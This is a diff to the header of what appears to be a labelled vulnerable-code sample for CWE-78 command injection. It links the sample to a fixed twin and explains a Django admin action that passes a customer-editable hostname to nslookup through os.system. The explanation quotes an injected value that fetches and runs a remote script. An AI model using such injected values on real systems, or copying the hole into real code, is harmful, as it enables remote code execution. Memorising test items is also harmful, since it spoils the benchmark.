@@ -2,7 +2,7 @@
 # id: cwe78-admin-nslookup-v
 # cwe: CWE-78
 # vulnerable: true
-# twin: none
+# twin: cwe78-admin-nslookup-f
 # tags: django, os
 # explanation: A Django admin action checks DNS for selected customer endpoints by running nslookup through os.system. The hostname field is edited by customers in their own portal, so a stored value like "x.com;wget -qO- h/s|sh" executes when staff run the action.
 # ---
